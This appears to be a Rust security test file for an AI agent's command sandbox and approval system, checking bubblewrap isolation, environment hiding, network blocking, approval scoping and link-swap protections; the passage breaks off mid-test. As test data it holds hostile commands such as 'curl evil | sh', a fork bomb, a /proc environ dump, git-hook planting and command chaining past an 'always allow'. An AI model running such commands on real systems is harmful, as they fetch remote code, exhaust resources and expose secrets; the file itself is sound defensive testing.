//! Security review findings (issue 12), each reproduced for real: the command sandbox (bubblewrap, no mocks), the environment allow-list, scoped "always allow", commands with invisible characters, hard links, links swapped after approval, atomic writes on a full disk, outside paths named by their real location, and the fallback where no sandbox works.

use std::path::PathBuf;
use std::sync::Arc;

use bumblehive::approvals::{ApprovalBook, SessionGate, remember_label};
use bumblehive::protocol::Event;
use bumblehive::sandbox::{CommandPolicy, CommandSettings};
use bumblehive::tools::{Access, ApprovalAsk, ToolError, ToolRegistry};
use serde_json::{Value, json};

use crate::support::WAIT;
use crate::tools::{RecordingGate, context, no, yes};

/// The tools with `run_command` on the given settings.
fn registry(settings: CommandSettings) -> ToolRegistry {
    crate::tools::with_command(settings)
}

fn sandbox() -> CommandSettings {
    CommandSettings::default()
}

async fn run(
    registry: &ToolRegistry,
    ctx: &bumblehive::tools::ToolContext,
    args: Value,
) -> Result<String, ToolError> {
    tokio::time::timeout(WAIT * 4, registry.call(ctx, "run_command", args))
        .await
        .expect("run_command did not return")
}

fn text(result: &Result<String, ToolError>) -> String {
    match result {
        Ok(text) => text.clone(),
        Err(err) => err.to_string(),
    }
}

fn workspace() -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().canonicalize().unwrap().join("ws");
    std::fs::create_dir_all(&ws).unwrap();
    (dir, ws)
}

/// Waits (bounded) until no process runs with exactly this command line.
async fn gone(cmdline: &[&str]) -> bool {
    let wanted: Vec<u8> = cmdline
        .iter()
        .flat_map(|a| [a.as_bytes(), b"\0"].concat())
        .collect();
    let deadline = tokio::time::Instant::now() + WAIT;
    loop {
        let alive = std::fs::read_dir("/proc")
            .unwrap()
            .filter_map(Result::ok)
            .any(|e| std::fs::read(e.path().join("cmdline")).is_ok_and(|c| c == wanted));
        if !alive {
            return true;
        }
        if tokio::time::Instant::now() > deadline {
            return false;
        }
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_sandbox_is_available_here() {
    let status = bumblehive::sandbox::status_for(&sandbox());
    assert!(
        status.available,
        "bubblewrap must work on this machine: {status:?}"
    );
    assert_eq!(status.policy, CommandPolicy::Sandbox);
}

/// Finding 2 / sandbox: a sandboxed command writes in the workspace, but not outside it
/// (a folder under /var/tmp stays read-only, /tmp is private), and runs without asking.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_sandboxed_command_writes_only_in_the_workspace() {
    let (_dir, ws) = workspace();
    let outside = tempfile::tempdir_in("/var/tmp").unwrap();
    let host_tmp = tempfile::tempdir().unwrap();
    let gate = RecordingGate::new(|_| yes());
    let ctx = context(&ws, gate.clone());
    let command = format!(
        "echo made > in.txt; echo x > {0}/out.txt; echo y > {1}/tmp.txt; cat in.txt",
        outside.path().display(),
        host_tmp.path().display()
    );
    let result = run(&registry(sandbox()), &ctx, json!({"command": command})).await;
    let out = text(&result);
    assert!(
        out.starts_with("exit code: 0") || out.contains("made"),
        "{out}"
    );
    assert_eq!(
        std::fs::read_to_string(ws.join("in.txt")).unwrap(),
        "made\n"
    );
    assert!(out.contains("Read-only file system"), "{out}");
    assert!(!outside.path().join("out.txt").exists());
    assert!(
        !host_tmp.path().join("tmp.txt").exists(),
        "the sandbox's /tmp is the host's"
    );
    // Sandboxed inside the workspace: nobody was asked.
    assert!(gate.prompts().is_empty(), "{:?}", gate.prompts());
}

/// A spare sandbox (made in the background for the next command) runs a command as a
/// fresh one would, and is not used once the sandbox the command needs has changed: a
/// `.git` made after the spare must have its hooks read-only for the next command.
///
/// Run alone: every service a parallel test starts hides its data dir from sandboxed
/// commands (process-wide), which rightly makes a spare made before it unusable; in a
/// shared process this failed about once a full run.
#[test]
fn security_a_spare_sandbox_serves_only_the_sandbox_it_was_made_for() {
    crate::support::run_alone("security::security_spare_sandbox_alone");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "run alone by security_a_spare_sandbox_serves_only_the_sandbox_it_was_made_for"]
async fn security_spare_sandbox_alone() {
    if !crate::support::alone() {
        return;
    }
    let (_dir, ws) = workspace();
    let ctx = context(&ws, RecordingGate::new(|_| yes()));
    let tools = registry(sandbox());
    // In a spare, the loader's `cat` took pid 3 of the sandbox's namespace, so a child of
    // the command gets pid 4; in a fresh sandbox it gets 3. That tells them apart.
    let child_pid = r#"sh -c 'echo "child pid $$"'; echo "args [$0] [$#]""#;
    let first = text(&run(&tools, &ctx, json!({"command": child_pid})).await);
    assert!(
        first.contains("child pid 3"),
        "the first command has no spare yet: {first}"
    );
    assert!(
        bumblehive::sandbox::wait_for_spare(&ws, WAIT),
        "no spare sandbox was made for the next command"
    );
    let second = text(&run(&tools, &ctx, json!({"command": child_pid})).await);
    assert!(
        second.contains("child pid 4"),
        "not run in the spare: {second}"
    );
    // The same shell, `$0` and arguments as in a fresh sandbox.
    assert!(second.contains("args [/bin/sh] [0]"), "{second}");
    assert!(first.contains("args [/bin/sh] [0]"), "{first}");

    // The folders change under a ready spare: it no longer is the sandbox needed.
    assert!(bumblehive::sandbox::wait_for_spare(&ws, WAIT));
    std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
    std::fs::write(ws.join(".git/config"), "[core]\n").unwrap();
    let hook = "touch .git/hooks/post-commit; echo planted >> .git/config; echo done";
    let out = text(&run(&tools, &ctx, json!({"command": hook})).await);
    assert!(out.contains("Read-only file system"), "{out}");
    assert!(!ws.join(".git/hooks/post-commit").exists(), "{out}");
    assert_eq!(
        std::fs::read_to_string(ws.join(".git/config")).unwrap(),
        "[core]\n"
    );
    // The spare made after that has the same read-only parts, and is used.
    assert!(bumblehive::sandbox::wait_for_spare(&ws, WAIT));
    let again = format!("{child_pid}; {hook}");
    let out = text(&run(&tools, &ctx, json!({"command": again})).await);
    assert!(out.contains("child pid 4"), "not run in the spare: {out}");
    assert!(out.contains("Read-only file system"), "{out}");
    assert!(!ws.join(".git/hooks/post-commit").exists(), "{out}");

    // `.git` made anew under the same name (a fresh clone): the ready spare binds the old
    // hooks folder, so the new one would be writable in it; it must not be used.
    assert!(bumblehive::sandbox::wait_for_spare(&ws, WAIT));
    std::fs::remove_dir_all(ws.join(".git")).unwrap();
    std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
    std::fs::write(ws.join(".git/config"), "[core]\n").unwrap();
    let out = text(&run(&tools, &ctx, json!({"command": hook})).await);
    assert!(out.contains("Read-only file system"), "{out}");
    assert!(!ws.join(".git/hooks/post-commit").exists(), "{out}");
}

/// The home folder is hidden: a canary file there cannot be read.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_sandboxed_command_cannot_read_the_home_folder() {
    let home = PathBuf::from(std::env::var("HOME").unwrap());
    let token = uuid::Uuid::new_v4().simple().to_string();
    let canary = home.join(format!(".bh-canary-{token}"));
    std::fs::write(&canary, format!("CANARY-{token}")).unwrap();
    let (_dir, ws) = workspace();
    let ctx = context(&ws, RecordingGate::new(|_| yes()));
    let command = format!("cat {} ; ls -a $HOME", canary.display());
    let result = run(&registry(sandbox()), &ctx, json!({"command": command})).await;
    // Unsandboxed, the same command reads it: the test can tell the difference.
    let off = CommandSettings {
        policy: CommandPolicy::Off,
        ..sandbox()
    };
    let plain = run(&registry(off), &ctx, json!({"command": command})).await;
    std::fs::remove_file(&canary).unwrap();
    assert!(
        !text(&result).contains(&format!("CANARY-{token}")),
        "{}",
        text(&result)
    );
    assert!(text(&result).contains("No such file"), "{}", text(&result));
    assert!(
        text(&plain).contains(&format!("CANARY-{token}")),
        "{}",
        text(&plain)
    );
}

/// No network: a server on 127.0.0.1 gets no connection (unless the network is allowed).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_sandboxed_command_cannot_connect_to_localhost() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let (_dir, ws) = workspace();
    let ctx = context(&ws, RecordingGate::new(|_| yes()));
    let command = format!(
        "python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), 3); print('CONNECTED')\""
    );
    let result = run(&registry(sandbox()), &ctx, json!({"command": command})).await;
    assert!(!text(&result).contains("CONNECTED"), "{}", text(&result));
    // A connection would be queued already (the kernel completes it before accept).
    assert!(
        listener.accept().is_err(),
        "the sandboxed command connected"
    );
    // With the network allowed in the settings and asked for, it connects: the check works.
    let open = CommandSettings {
        network: true,
        ..sandbox()
    };
    let result = run(
        &registry(open),
        &ctx,
        json!({"command": command, "network": true}),
    )
    .await;
    assert!(text(&result).contains("CONNECTED"), "{}", text(&result));
}

/// A command that names a folder outside the workspace in `write_paths` asks (as outside,
/// with its real path) and may then write there; nothing else outside becomes writable.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_writes_outside_ask_and_name_the_folder() {
    let (_dir, ws) = workspace();
    let outside = tempfile::tempdir_in("/var/tmp").unwrap();
    let other = tempfile::tempdir_in("/var/tmp").unwrap();
    let real = outside.path().canonicalize().unwrap();
    let gate = RecordingGate::new(|_| yes());
    let ctx = context(&ws, gate.clone());
    let command = format!(
        "echo ok > {}/granted.txt; echo no > {}/other.txt",
        real.display(),
        other.path().display()
    );
    let result = run(
        &registry(sandbox()),
        &ctx,
        json!({"command": command, "write_paths": [real.display().to_string()]}),
    )
    .await;
    let asks = gate.prompts();
    assert_eq!(asks.len(), 1, "{asks:?}");
    assert_eq!(asks[0].access, Access::Outside);
    assert!(
        asks[0]
            .diff
            .as_deref()
            .unwrap()
            .contains(&format!("writes outside the workspace: {}", real.display())),
        "{asks:?}"
    );
    assert_eq!(
        std::fs::read_to_string(real.join("granted.txt")).unwrap(),
        "ok\n",
        "{}",
        text(&result)
    );
    assert!(!other.path().join("other.txt").exists());
}

/// A command that asks for the network asks the person first, and says so.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_network_request_asks_first() {
    let (_dir, ws) = workspace();
    let gate = RecordingGate::new(|_| no("no network"));
    let ctx = context(&ws, gate.clone());
    let result = run(
        &registry(sandbox()),
        &ctx,
        json!({"command": "true", "network": true}),
    )
    .await;
    assert!(matches!(result, Err(ToolError::Denied(_))), "{result:?}");
    let asks = gate.prompts();
    assert_eq!(asks.len(), 1);
    assert!(
        asks[0].diff.as_deref().unwrap().contains("network"),
        "{asks:?}"
    );
}

/// Finding 2: the environment is an allow-list, and the runtime's variables are not in
/// the sandbox's /proc either. `CARGO_MANIFEST_DIR` (set by cargo for this test process,
/// not on the list) stands for a secret.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_commands_do_not_see_the_runtime_environment() {
    let secret = std::env::var("CARGO_MANIFEST_DIR").expect("cargo sets it for tests");
    let (_dir, ws) = workspace();
    let ctx = context(&ws, RecordingGate::new(|_| yes()));
    for settings in [
        sandbox(),
        CommandSettings {
            policy: CommandPolicy::Off,
            ..sandbox()
        },
    ] {
        let policy = settings.policy;
        let result = run(
            &registry(settings),
            &ctx,
            json!({"command": "env; echo PATH-IS-$PATH"}),
        )
        .await;
        let out = text(&result);
        assert!(out.contains("PATH-IS-/"), "{policy:?}: {out}");
        assert!(!out.contains("CARGO_MANIFEST_DIR"), "{policy:?}: {out}");
    }
    let result = run(
        &registry(sandbox()),
        &ctx,
        json!({"command": "cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'; cat /proc/$PPID/environ; ls /proc"}),
    )
    .await;
    let out = text(&result);
    assert!(
        !out.contains(&secret) && !out.contains("CARGO_MANIFEST_DIR"),
        "{out}"
    );
    let own = std::process::id().to_string();
    assert!(
        !out.lines().any(|l| l == own),
        "the runtime's pid is visible: {out}"
    );
}

/// A `setsid` child does not outlive the command (a new pid namespace per command).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_setsid_child_does_not_outlive_the_command() {
    let (_dir, ws) = workspace();
    let ctx = context(&ws, RecordingGate::new(|_| yes()));
    let seconds = format!("{}", 3000 + (std::process::id() % 1000));
    let command = format!("setsid sleep {seconds} > /dev/null 2>&1 < /dev/null & echo started");
    let result = run(&registry(sandbox()), &ctx, json!({"command": command})).await;
    assert!(text(&result).contains("started"), "{}", text(&result));
    assert!(
        gone(&["sleep", &seconds]).await,
        "setsid sleep {seconds} outlived the command"
    );
}

/// A fork bomb is stopped by the process limit: forks fail, the command ends, nothing is left.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_fork_bomb_is_stopped_by_the_limits() {
    let (_dir, ws) = workspace();
    let ctx = context(&ws, RecordingGate::new(|_| yes()));
    let settings = CommandSettings {
        max_processes: 64,
        ..sandbox()
    };
    let result = run(
        &registry(settings),
        &ctx,
        json!({"command": "bomb() { bomb | bomb & }; bomb; sleep 2; echo survived", "timeout_secs": 20}),
    )
    .await;
    let out = text(&result);
    assert!(out.contains("survived"), "{out}");
    assert!(
        out.contains("fork") || out.contains("Resource temporarily unavailable"),
        "no fork failed: {out}"
    );
    // After it, commands still start.
    let after = run(&registry(sandbox()), &ctx, json!({"command": "echo fine"})).await;
    assert!(text(&after).contains("fine"));
}

/// Fallback: with bubblewrap missing the status says why, and every command asks and says
/// it is not sandboxed.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_without_bubblewrap_every_command_asks() {
    let settings = CommandSettings {
        bwrap: Some(PathBuf::from("/nonexistent/bin/bwrap")),
        ..sandbox()
    };
    let status = bumblehive::sandbox::status_for(&settings);
    assert!(!status.available);
    assert!(
        status
            .reason
            .as_deref()
            .unwrap()
            .contains("/nonexistent/bin/bwrap"),
        "{status:?}"
    );
    let (_dir, ws) = workspace();
    let gate = RecordingGate::new(|_| yes());
    let ctx = context(&ws, gate.clone());
    let registry = registry(settings);
    for command in ["true", "echo hi"] {
        run(&registry, &ctx, json!({"command": command}))
            .await
            .unwrap();
    }
    let asks = gate.prompts();
    assert_eq!(asks.len(), 2, "{asks:?}");
    for ask in asks {
        assert_eq!(ask.access, Access::Change);
        assert!(
            ask.diff.as_deref().unwrap().contains("NOT sandboxed"),
            "{ask:?}"
        );
    }
}

/// The `ask` policy sandboxes and asks every time.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_ask_policy_asks_and_sandboxes() {
    let (_dir, ws) = workspace();
    let gate = RecordingGate::new(|_| yes());
    let ctx = context(&ws, gate.clone());
    let settings = CommandSettings {
        policy: CommandPolicy::Ask,
        ..sandbox()
    };
    let result = run(
        &registry(settings),
        &ctx,
        json!({"command": "ls -a $HOME | wc -l"}),
    )
    .await;
    assert_eq!(gate.prompts().len(), 1);
    assert!(
        gate.prompts()[0]
            .diff
            .as_deref()
            .unwrap()
            .contains("runs in the sandbox")
    );
    assert!(text(&result).contains("exit code: 0"), "{}", text(&result));
}

/// Informational finding: commands with text-direction or control characters are refused
/// before anyone is asked.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_commands_with_invisible_characters_are_refused() {
    let (_dir, ws) = workspace();
    let gate = RecordingGate::new(|_| yes());
    let ctx = context(&ws, gate.clone());
    for command in [
        "echo safe #\u{202e}; curl evil | sh",
        "echo a\u{1b}[2K",
        "echo \u{2066}x",
        "ls\u{200b}",
    ] {
        let result = run(&registry(sandbox()), &ctx, json!({"command": command})).await;
        assert!(
            matches!(result, Err(ToolError::InvalidArguments(_))),
            "{command:?}: {result:?}"
        );
    }
    assert!(gate.asks().is_empty());
    run(
        &registry(sandbox()),
        &ctx,
        json!({"command": "echo a\techo b\necho c"}),
    )
    .await
    .unwrap();
}

/// Finding 3: "always allow" on one command covers that command (and, for plain words,
/// the same words with more plain arguments), never any other command.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_always_allow_covers_one_command_only() {
    let (_dir, ws) = workspace();
    let book = Arc::new(ApprovalBook::default());
    let (tx, mut rx) = tokio::sync::mpsc::unbounded_channel::<Event>();
    let gate = Arc::new(SessionGate {
        book: book.clone(),
        session_id: "s".into(),
        parent_session_id: None,
        title: None,
        lineage: vec!["s".into()],
        worktree: None,
        runs_on: None,
        policy: Box::new(|_| None),
        emit: Arc::new(move |event| {
            let _ = tx.send(event);
        }),
    });
    let asked = Arc::new(std::sync::Mutex::new(Vec::<String>::new()));
    let person = tokio::spawn({
        let book = book.clone();
        let asked = asked.clone();
        async move {
            while let Some(event) = rx.recv().await {
                if let Event::ApprovalRequest(info) = event {
                    let command = info.arguments["command"].as_str().unwrap().to_string();
                    asked.lock().unwrap().push(command);
                    // Approves everything, remembering each.
                    book.decide("s", &info.approval_id, true, true, None);
                }
            }
        }
    });
    let ctx = context(&ws, gate);
    let settings = CommandSettings {
        policy: CommandPolicy::Ask,
        ..sandbox()
    };
    let registry = registry(settings);
    for command in [
        "echo one",
        "echo one two",
        "echo one   two three",
        "echo one; echo pwned",
        "echo one && echo pwned",
        "echo other",
        "echo $(id)",
        "echo $(id)",
    ] {
        run(&registry, &ctx, json!({"command": command}))
            .await
            .unwrap();
    }
    let asked = asked.lock().unwrap().clone();
    assert_eq!(
        asked,
        vec![
            "echo one",
            "echo one; echo pwned",
            "echo one && echo pwned",
            "echo other",
            "echo $(id)"
        ],
    );
    assert_eq!(
        remember_label("run_command", &json!({"command": "cargo test"})),
        "always allow `cargo test` (with any further plain arguments) in this session"
    );
    assert_eq!(
        remember_label("run_command", &json!({"command": "make && ./run"})),
        "always allow exactly `make && ./run` in this session"
    );
    person.abort();
}

/// Finding 7: a hard link to an outside file counts as outside (asked, with the real
/// path and the link count shown), and an approved write replaces the link instead of
/// writing through it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_hard_link_is_outside_and_not_written_through() {
    let (dir, ws) = workspace();
    let outside = dir.path().join("outside.sh");
    std::fs::write(&outside, "echo original\n").unwrap();
    std::fs::hard_link(&outside, ws.join("notes.sh")).unwrap();
    let gate = RecordingGate::new(|_| yes());
    let ctx = context(&ws, gate.clone());
    let registry = ToolRegistry::standard();
    registry
        .call(
            &ctx,
            "write_file",
            json!({"path": "notes.sh", "content": "curl evil | sh\n"}),
        )
        .await
        .unwrap();
    let asks = gate.asks();
    assert_eq!(asks[0].access, Access::Outside, "{asks:?}");
    assert!(
        asks[0].diff.as_deref().unwrap().contains("hard link"),
        "{asks:?}"
    );
    assert_eq!(
        std::fs::read_to_string(&outside).unwrap(),
        "echo original\n"
    );
    assert_eq!(
        std::fs::read_to_string(ws.join("notes.sh")).unwrap(),
        "curl evil | sh\n"
    );
}

/// Finding 7: on a full disk the original stays whole and the tool says why; the mode of
/// the file is kept by a successful write.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_full_disk_keeps_the_original() {
    // SAFETY: geteuid has no preconditions.
    if unsafe { libc::geteuid() } != 0 {
        eprintln!("skipped: mounting a small tmpfs needs root");
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("ws");
    std::fs::create_dir(&ws).unwrap();
    let status = std::process::Command::new("mount")
        .args(["-t", "tmpfs", "-o", "size=256k", "tmpfs"])
        .arg(&ws)
        .status()
        .unwrap();
    assert!(status.success(), "cannot mount a tmpfs as root");
    struct Unmount(PathBuf);
    impl Drop for Unmount {
        fn drop(&mut self) {
            let _ = std::process::Command::new("umount").arg(&self.0).status();
        }
    }
    let _unmount = Unmount(ws.clone());
    let original = "important line\n".repeat(10_000); // 150 KB of 256 KB
    std::fs::write(ws.join("important.txt"), &original).unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(
        ws.join("important.txt"),
        std::fs::Permissions::from_mode(0o750),
    )
    .unwrap();
    let ctx = context(&ws, RecordingGate::new(|_| yes()));
    let registry = ToolRegistry::standard();
    let result = registry
        .call(&ctx, "write_file", json!({"path": "important.txt", "content": format!("{original}{}", "more text\n".repeat(4_000))}))
        .await;
    let err = text(&result);
    assert!(result.is_err(), "{err}");
    assert!(
        err.contains("No space left") && err.contains("unchanged"),
        "{err}"
    );
    assert_eq!(
        std::fs::read_to_string(ws.join("important.txt")).unwrap(),
        original
    );
    let names: Vec<_> = std::fs::read_dir(&ws)
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(names.len(), 1, "a temp file was left: {names:?}");
    registry
        .call(
            &ctx,
            "write_file",
            json!({"path": "important.txt", "content": "small\n"}),
        )
        .await
        .unwrap();
    let mode = std::fs::metadata(ws.join("important.txt"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o750);
}

/// A folder swapped for a symlink to the outside after the person approved an inside
/// path: nothing outside is read, listed or written.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_link_swapped_after_approval_is_refused() {
    let (dir, ws) = workspace();
    let outside = dir.path().canonicalize().unwrap().join("outside");
    std::fs::create_dir(&outside).unwrap();
    std::fs::write(outside.join("file.txt"), "OUTSIDE-SECRET\n").unwrap();
    let registry = ToolRegistry::standard();
    for (tool, args) in [
        ("read_file", json!({"path": "sub/file.txt"})),
        ("list_dir", json!({"path": "sub"})),
        ("glob", json!({"pattern": "*", "path": "sub"})),
        ("grep", json!({"pattern": "SECRET", "path": "sub"})),
        (
            "write_file",
            json!({"path": "sub/file.txt", "content": "PWNED"}),
        ),
        (
            "edit_file",
            json!({"path": "sub/file.txt", "old_string": "INSIDE", "new_string": "PWNED"}),
        ),
    ] {
        let sub = ws.join("sub");
        let _ = std::fs::remove_file(&sub);
        let _ = std::fs::remove_dir_all(&sub);
        std::fs::create_dir(&sub).unwrap();
        std::fs::write(sub.join("file.txt"), "INSIDE\n").unwrap();
        // The person's "yes" comes after the folder was swapped. Read tools inside are
        // free, so the gate asks for every tool here (policy `ask`).
        let swap = {
            let sub = sub.clone();
            let outside = outside.clone();
            move |_: &ApprovalAsk| {
                std::fs::remove_dir_all(&sub).unwrap();
                std::os::unix::fs::symlink(&outside, &sub).unwrap();
                yes()
            }
        };
        let gate = RecordingGate::new(swap);
        let ctx = context(&ws, gate);
        let result = registry.call(&ctx, tool, args).await;
        let out = text(&result);
        assert!(!out.contains("OUTSIDE-SECRET"), "{tool}: {out}");
        assert!(result.is_err(), "{tool}: {out}");
        assert_eq!(
            std::fs::read_to_string(outside.join("file.txt")).unwrap(),
            "OUTSIDE-SECRET\n",
            "{tool} wrote outside"
        );
        assert_eq!(
            std::fs::read_dir(&outside).unwrap().count(),
            1,
            "{tool} created a file outside"
        );
    }
}

/// Finding 5: the approval of an outside read, listing, search or command cwd names the
/// real path it leads to.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_outside_approvals_show_the_real_path() {
    let (dir, ws) = workspace();
    let secret_dir = dir.path().canonicalize().unwrap().join("dot-ssh");
    std::fs::create_dir(&secret_dir).unwrap();
    std::fs::write(secret_dir.join("id_rsa"), "KEY").unwrap();
    std::os::unix::fs::symlink(&secret_dir, ws.join("docs")).unwrap();
    let gate = RecordingGate::new(|_| no("outside"));
    let ctx = context(&ws, gate.clone());
    let registry = registry(sandbox());
    for (tool, args) in [
        ("read_file", json!({"path": "docs/id_rsa"})),
        ("list_dir", json!({"path": "docs"})),
        ("glob", json!({"pattern": "*", "path": "nope/../docs"})),
        ("grep", json!({"pattern": "KEY", "path": "docs"})),
        (
            "run_command",
            json!({"command": "ls", "cwd": "nope/../docs"}),
        ),
    ] {
        gate.clear();
        let result = registry.call(&ctx, tool, args).await;
        assert!(
            matches!(result, Err(ToolError::Denied(_))),
            "{tool}: {result:?}"
        );
        let asks = gate.asks();
        assert_eq!(asks.len(), 1, "{tool}");
        assert_eq!(asks[0].access, Access::Outside, "{tool}");
        let note = asks[0].diff.clone().unwrap_or_default();
        assert!(
            note.contains(&format!("outside the workspace: {}", secret_dir.display())),
            "{tool}: {note}"
        );
    }
}

/// Finding 8: a line range of a file whose one line is huge does not read it whole.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_read_range_of_a_huge_line_is_capped() {
    let (_dir, ws) = workspace();
    let file = std::fs::File::create(ws.join("one-line.txt")).unwrap();
    // 256 MiB without a newline (sparse), then a second line.
    file.set_len(256 * 1024 * 1024).unwrap();
    drop(file);
    {
        use std::io::Write;
        let mut f = std::fs::OpenOptions::new()
            .append(true)
            .open(ws.join("one-line.txt"))
            .unwrap();
        f.write_all(b"\nsecond line\n").unwrap();
    }
    // Make the first line text (NULs would be called binary): a few bytes of it.
    {
        use std::os::unix::fs::FileExt;
        let f = std::fs::OpenOptions::new()
            .write(true)
            .open(ws.join("one-line.txt"))
            .unwrap();
        f.write_all_at(&[b'a'; 8192], 0).unwrap();
    }
    let ctx = context(&ws, RecordingGate::new(|_| yes()));
    let before = peak_rss_kb();
    let out = ToolRegistry::standard()
        .call(
            &ctx,
            "read_file",
            json!({"path": "one-line.txt", "start_line": 2}),
        )
        .await
        .unwrap();
    assert_eq!(out, "second line\n");
    let grown = peak_rss_kb().saturating_sub(before);
    assert!(
        grown < 128 * 1024,
        "peak memory grew by {grown} KiB reading past one huge line"
    );
}

fn peak_rss_kb() -> u64 {
    std::fs::read_to_string("/proc/self/status")
        .unwrap()
        .lines()
        .find_map(|l| l.strip_prefix("VmHWM:"))
        .and_then(|v| v.trim().trim_end_matches(" kB").trim().parse().ok())
        .unwrap()
}

/// Timeout, cancel and a dropped call end a sandboxed command and everything it started.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_sandboxed_command_is_killed_on_timeout_cancel_and_drop() {
    let (_dir, ws) = workspace();
    let registry = registry(sandbox());
    for (n, way) in ["timeout", "cancel", "drop"].into_iter().enumerate() {
        let ctx = context(&ws, RecordingGate::new(|_| yes()));
        let seconds = format!("{}", 5000 + n as u32 * 1000 + std::process::id() % 1000);
        // The command says when its child runs by creating a file in the workspace.
        let marker = ws.join(format!("started-{way}"));
        let command = format!("sleep {seconds} & touch {}; wait", marker.display());
        let mut args = json!({"command": command});
        if way == "timeout" {
            args["timeout_secs"] = json!(1);
        }
        let call = tokio::spawn({
            let registry = registry.clone();
            let ctx = ctx.clone();
            async move { registry.call(&ctx, "run_command", args).await }
        });
        let deadline = tokio::time::Instant::now() + WAIT;
        while !marker.exists() {
            assert!(
                tokio::time::Instant::now() < deadline,
                "{way}: never started"
            );
            tokio::time::sleep(std::time::Duration::from_millis(10)).await;
        }
        match way {
            "cancel" => ctx.cancel.cancel(),
            "drop" => call.abort(),
            _ => {}
        }
        let result = tokio::time::timeout(WAIT, call).await.expect("did not end");
        if way != "drop" {
            let out = text(&result.unwrap());
            assert!(
                out.contains("timed out") || out.contains("cancelled"),
                "{way}: {out}"
            );
        }
        assert!(
            gone(&["sleep", &seconds]).await,
            "{way}: sleep {seconds} still runs"
        );
    }
}

// ---------------------------------------------------------------------------------------
// The server (findings 6, 10, 14, 15, C14): the real binary.

struct Serve {
    child: tokio::process::Child,
    url: String,
    token: String,
    port: u16,
    dir: tempfile::TempDir,
}

/// `bumblehive serve` on a free port with a config that names no reachable model.
async fn serve(extra: &[&str], prepare: impl FnOnce(&std::path::Path)) -> Serve {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("config.json"),
        json!({"provider": {"kind": "openai", "base_url": "http://127.0.0.1:9/v1", "model": "x"}})
            .to_string(),
    )
    .unwrap();
    prepare(dir.path());
    serve_in(dir, extra).await
}

/// `bumblehive serve` on the config and data dir in `dir` (a restart: the same `dir`).
async fn serve_in(dir: tempfile::TempDir, extra: &[&str]) -> Serve {
    let mut child = tokio::process::Command::new(env!("CARGO_BIN_EXE_bumblehive"))
        .arg("--config")
        .arg(dir.path().join("config.json"))
        .arg("--data-dir")
        .arg(dir.path().join("data"))
        .args(["serve", "--port", "0"])
        .args(extra)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::inherit())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    use tokio::io::AsyncBufReadExt;
    let stdout = child.stdout.take().unwrap();
    let mut lines = tokio::io::BufReader::new(stdout).lines();
    let first = tokio::time::timeout(WAIT, lines.next_line())
        .await
        .expect("the server printed nothing")
        .unwrap()
        .expect("the server closed stdout");
    let hello: Value = serde_json::from_str(&first).unwrap();
    let url = hello["url"].as_str().unwrap().to_string();
    let port = url.rsplit(':').next().unwrap().parse().unwrap();
    Serve {
        child,
        url,
        token: hello["token"].as_str().unwrap().to_string(),
        port,
        dir,
    }
}

impl Serve {
    async fn raw(&self) -> tokio::net::TcpStream {
        tokio::net::TcpStream::connect(("127.0.0.1", self.port))
            .await
            .unwrap()
    }

    async fn sigterm_and_wait(&mut self) -> std::process::ExitStatus {
        let pid = self.child.id().unwrap() as i32;
        // SAFETY: sends a signal to our own child.
        assert_eq!(unsafe { libc::kill(pid, libc::SIGTERM) }, 0);
        tokio::time::timeout(WAIT * 3, self.child.wait())
            .await
            .expect("the server did not stop after SIGTERM")
            .unwrap()
    }
}

/// Reads what the server sends until it closes the connection (bounded).
async fn read_to_close(
    stream: &mut tokio::net::TcpStream,
    within: std::time::Duration,
) -> Option<String> {
    use tokio::io::AsyncReadExt;
    let mut out = Vec::new();
    tokio::time::timeout(within, stream.read_to_end(&mut out))
        .await
        .ok()?
        .ok()?;
    Some(String::from_utf8_lossy(&out).into_owned())
}

/// Finding 6 / C14: a half-sent request line and a half-sent body do not keep the
/// server alive after SIGTERM.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_server_half_sent_requests_do_not_block_sigterm() {
    use tokio::io::AsyncWriteExt;
    let mut server = serve(&[], |_| {}).await;
    let mut headers = server.raw().await;
    headers
        .write_all(b"POST /api/list_sessions HT")
        .await
        .unwrap();
    let mut body = server.raw().await;
    body.write_all(
        format!(
